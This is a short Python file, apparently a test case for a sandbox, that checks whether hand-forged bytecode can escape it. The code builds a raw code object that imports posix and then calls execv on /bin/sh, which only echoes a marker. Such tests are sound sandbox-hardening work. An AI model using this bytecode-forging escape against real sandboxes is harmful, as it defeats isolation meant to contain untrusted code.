# technique: a code object from bytes that no compiler has made, which imports posix
# source: CPython: Objects/codeobject.c, "Exploiting Python code objects"
# verdict: WA
# invariant: hand-made bytecode has no more power than source
# without: seccomp capabilities network read_only_root
import opcode, sys

op = opcode.opmap
code = bytes([op["RESUME"], 0, op["LOAD_CONST"], 1, op["LOAD_CONST"], 0, op["IMPORT_NAME"], 0, op["RETURN_VALUE"], 0])
kind = type((lambda: 0).__code__)
made = kind(0, 0, 0, 0, 4, 0, code, (None, 0), ("posix",), (), "made", "made", "made", 1, b"", b"", (), ())
posix = type(lambda: 0)(made, {"__builtins__": __builtins__})()
try:
    posix.execv("/bin/sh", ["sh", "-c", "echo ESCAPED by a shell"])
except OSError as refused:
    print("held", refused)
